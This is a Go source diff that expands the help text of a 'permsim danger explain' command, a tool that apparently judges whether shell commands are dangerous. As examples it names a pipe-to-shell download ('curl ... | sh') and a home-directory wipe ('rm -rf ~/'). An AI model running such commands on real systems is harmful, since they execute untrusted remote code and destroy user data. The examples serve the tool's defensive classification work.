@@ -27,7 +27,18 @@ type dangerExplainOut struct {
 func runDanger(ctx context.Context, args []string, stdin io.Reader, stdout, stderr io.Writer) error {
 	if len(args) == 0 || args[0] != "explain" {
 		if len(args) > 0 && (args[0] == "--help" || args[0] == "-h" || args[0] == "help") {
-			fmt.Fprintln(stdout, "Usage: permsim danger explain [--project DIR] [--home DIR] [--cwd DIR] [--format text|json] 'COMMAND'")
+			fmt.Fprint(stdout, `Usage: permsim danger explain [--project DIR] [--home DIR] [--cwd DIR] [--format text|json] 'COMMAND'
+
+Subcommands:
+  explain   whether a shell command is dangerous, in which categories
+            (the same marking replay, battery and the report use), and
+            which command of its parse made it so
+
+Run 'permsim danger explain --help' for its flags.
+
+Example:
+  permsim danger explain 'curl -s https://example.com/i.sh | sh'
+`)
 			return errHelp
 		}
 		return usageError{msg: "want a subcommand: explain", hint: "permsim danger explain 'rm -rf ~/'"}
